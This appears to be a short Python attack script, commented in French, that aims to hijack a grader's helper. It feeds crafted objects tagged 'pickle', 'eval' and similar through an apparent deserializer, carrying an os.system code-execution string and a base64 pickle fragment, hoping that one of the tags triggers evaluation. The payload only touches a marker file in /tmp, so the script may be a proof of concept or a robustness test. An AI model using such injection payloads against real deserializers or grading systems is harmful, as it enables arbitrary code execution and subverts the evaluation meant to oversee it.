"""Détourne l'assistant du correcteur : des étiquettes inconnues, où l'on espère eval ou pickle."""

turn = iter(range(10**6))
TAGS = ["pickle", "eval", "object", ["array"], {"$": "array"}, None, 1, "dict", "tuple", "float", "tensor"]
bomb = "__import__('os').system('touch /tmp/attaque')"
detourner(lambda request: partout({"$": TAGS[next(turn) % len(TAGS)], "v": bomb, "type": bomb,
                                   "data": "gASVJgAAAA=="})(request))
